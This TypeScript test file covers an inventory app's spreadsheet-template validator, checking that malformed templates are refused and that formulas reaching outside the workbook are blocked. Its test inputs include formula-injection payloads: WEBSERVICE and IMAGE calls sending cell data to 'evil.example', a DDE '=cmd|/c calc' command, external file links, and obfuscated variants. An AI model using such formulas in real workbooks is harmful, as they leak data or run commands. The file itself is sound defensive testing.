/** Template files from outside: every fault is named, and no formula reaches outside the workbook. */
import { constantsOf, whyUnpublishable } from "../../src/domain/templates/constants";
import { readTemplate, readTemplateText } from "../../src/domain/templates/read-template";

const good = {
  format: "inv-template",
  version: 1,
  id: "team-plan",
  title: "Team plan",
  summary: "What we look at on Mondays.",
  needs: "pairs",
  sheet: { name: "Plan" },
  table: {
    name: "Plan",
    columns: [
      { id: "number", header: "Store", cell: "{store}" },
      { id: "gtin", header: "GTIN", cell: "{item}" },
      { id: "shelf", header: "Shelf", cell: "=INV.QTY({number}{row},{gtin}{row})" },
    ],
  },
};

type Json = Record<string, unknown>;
const withColumn = (cell: unknown, more: Json = {}): Json => ({
  ...good,
  table: { ...good.table, columns: [...good.table.columns, { id: "extra", header: "Extra", cell, ...more }] },
});

test("reads a valid file unchanged", () => {
  const { template, faults } = readTemplateText(JSON.stringify(good));
  expect(faults).toBeNull();
  expect(template).toMatchObject(good);
});

test.each<[string, unknown, RegExp]>([
  ["another program's file", { hello: 1 }, /"format": must be "inv-template"/],
  ["a newer version", { ...good, version: 2 }, /"version": must be 1/],
  [
    "a field that is not known, such as a secret",
    { ...good, client_secret: "x" },
    /Unrecognized key|client_secret|Invalid/,
  ],
  ["a bad id", { ...good, id: "Team Plan" }, /"id": must be lower-case/],
  ["a title that is too long", { ...good, title: "x".repeat(61) }, /"title": is longer than 60/],
  ["a table that is missing", { ...good, table: undefined }, /"table": is needed/],
  ["an unknown placeholder", withColumn("={shelve}{row}"), /\{shelve\} has no meaning there/],
  ["an id used twice", withColumn(1, { id: "shelf" }), /"shelf" is used twice/],
  [
    "rows of different lengths",
    { ...good, blocks: [{ at: "H1", rows: [[1], [1, 2]] }] },
    /different lengths/,
  ],
  [
    "formats of more cells than a browser can format",
    { ...good, cellFormats: ["A1:B4", "A1:ZZ99999"].map((area) => ({ area, bold: true })) },
    /"cellFormats": format 70,199,306 cells; the limit is 1,200,000/,
  ],
  ...[
    { rows: [["x", 1]], widthsPx: [100, 1e9], cellFormats: [] },
    { rows: [["x", 1]], widthsPx: [100, 100], cellFormats: [{ row: 1e9, col: "both", bold: true }] },
  ].map((beside): [string, unknown, RegExp] => [
    `a summary of no possible size, ${JSON.stringify(beside)}`,
    { ...good, table: { ...good.table, beside } },
    /"table\.beside\.(?:widthsPx\.1|cellFormats\.0\.row)"/,
  ]),
  ["a wrong cell address", { ...good, blocks: [{ at: "H0", rows: [[1]] }] }, /must be a cell such as B2/],
])("refuses %s, and names the fault", (_, json, expected) => {
  const { template, faults } = readTemplate(json);
  expect(template).toBeNull();
  expect(faults!.join("\n")).toMatch(expected);
});

test.each([
  '=WEBSERVICE("https://evil.example/?"&C2)',
  "=webservice (A1)",
  '=IMAGE("https://evil.example/"&A1)',
  '=HYPERLINK("https://evil.example","ok")',
  "=[Book2.xlsx]Sheet1!A1",
  "='\\\\server\\share\\[b.xlsx]S'!A1",
  "=cmd|'/c calc'!A0",
  '=RTD("x",,"y")',
])("refuses %s, which reaches outside the workbook", (cell) => {
  expect(readTemplate(withColumn(cell)).faults?.[0]).toMatch(/reaches outside|another file or program/);
});

test("accepts text that looks like such functions", () => {
  expect(readTemplate(withColumn('=IF({shelf}{row}>0,"see IMAGE(1) | ok","")')).faults).toBeNull();
});

test("refuses text that isn't JSON or is too long", () => {
  expect(readTemplateText("{").faults).toEqual(["The file is not valid JSON."]);
  expect(readTemplateText(" ".repeat(300_000)).faults?.[0]).toMatch(/longer than/);
});

test("refuses a template that is too long before it reads its formulas", () => {
  const long = { at: "A1", rows: Array.from({ length: 40 }, () => ["=WEBSERVICE(A1)".padEnd(8_000)]) };
  expect(readTemplate({ ...good, blocks: [long] }).faults).toEqual([
    "The template is longer than 256,000 characters.",
  ]);
});

test("reports at most twenty faults", () => {
  const columns = Array.from({ length: 40 }, (_, index) => ({ id: `c${index}`, header: "", cell: 1 }));
  expect(readTemplate({ ...good, table: { name: "T", columns } }).faults).toHaveLength(20);
});
test.each([
  '=_xlfn.WEBSERVICE("http://x/"&A1)',
  '=_XLFN._xlws.WEBSERVICE("http://x/"&A1)',
  '=LET(f,WEBSERVICE,f("http://x/"&A1))',
  "=MAP(A1:A9,WEBSERVICE)",
  "=MAP(A1:A9,_xleta.WEBSERVICE)",
  "=LAMBDA(webservice,webservice(A1))(1)",
  '=LET(fetch_it,1,FETCH("http://x/"&A1))',
  '=LET(fetch,1,FETCH("http://x/"&A1))',
  '=TRANSLATE(A1,"en","de")',
  '=IMPORTTEXT("http://x/"&A1)',
  '=IMPORTCSV("http://x/"&A1)',
  '=COPILOT("send",A1:C9)',
  '=PY("import os",1)',
  '=INDIRECT("[other.xlsx]Sheet1!A1")',
  "='file:///x'!A1",
  "='http://x/[a.xlsx]Sheet1'!A1",
  "='other.xlsx'!Name",
  "=other.xlsx!Name",
  "=[1]Sheet1!A1",
  "=[other]Sheet1!A1",
  "=CONTOSO.SEND(A1)",
  '=INV.QTY(1234,"00012345678905")+CONTOSO.INV.SEND(A1)',
  "=MYUDF(A1)",
  "=MY_UDF(A1)",
  '=cmd|"/c calc"!A1',
  "=C{gtin}LL(A1)",
  "={number}LL(A1)",
  '=W{gtin}BSERVICE("http://x")',
  "=A1.Price",
])("refuses %s, even if Excel adds such a function later", (cell) => {
  const { faults } = readTemplate(withColumn(cell));
  expect(faults?.[0]).toMatch(/reaches outside|another file|not among|within a word|needs an underscore/);
});

test.each([
  '=IFNA(_xlfn.XLOOKUP(A{row},Rows[Store],Rows[Qty]),"WEBSERVICE(1) is text")',
  '=_xlfn._xlws.FILTER($A$2:$C$9,($A$2:$A$9>0)*(B2:B9<>""))',
  "=_xlfn.LET(_xlpm.total,SUM(A:A),_xlpm.total*2)",
  '=LET(days,7,cover,{gtin}{row}/days,IF(cover>1E3,"many",ROUND(cover,1)))',
  "=LET(add_one,LAMBDA(x,x+1),add_one(A1))",
  "=BYROW(A1:C9,LAMBDA(r,SUM(r)))",
  "=MAP(A1:A9,ABS)",
  "=SUMIFS('Store list'!$B:$B,'Store list'!$A:$A,{number}{row})",
  "=Planning!A1+'It''s mine'!B2",
  "=INV.QTY(Stores_North,TRANSPOSE(Items_Top))",
  "=SUM({number}{first}:{number}{last})-{gtin}{row}%",
  "=[@Shelf]+Rows[[#Totals],[Qty]]",
  "=IF(A1=#N/A,TRUE,{1,2;3,4})",
  "=A1#",
  "=LOG10(A1)+ATAN2(1,2)+CEILING.MATH(2.5)",
])("accepts %s, which stays within the workbook", (cell) => {
  expect(readTemplate(withColumn(cell)).faults).toBeNull();
});

test("shows the numbers and texts of rules too, and refuses to publish an item in one", () => {
  const rule = { kind: "formula", formula: '=C2<IF(B2="00012345678905",40,5)', fill: "#fde7e5" };
  const { template } = readTemplate({
    ...good,
    table: { ...good.table, highlights: [{ columns: ["shelf"], rule }] },
    highlights: [{ area: "F1", rule: { ...rule, formula: "=F1>77" } }],
  });
  expect(constantsOf(template!)).toEqual(["Store", "GTIN", "Shelf", "00012345678905", "40", "5", "77"]);
  expect(whyUnpublishable(template!)).toMatch(/"00012345678905" looks like an item/);
});
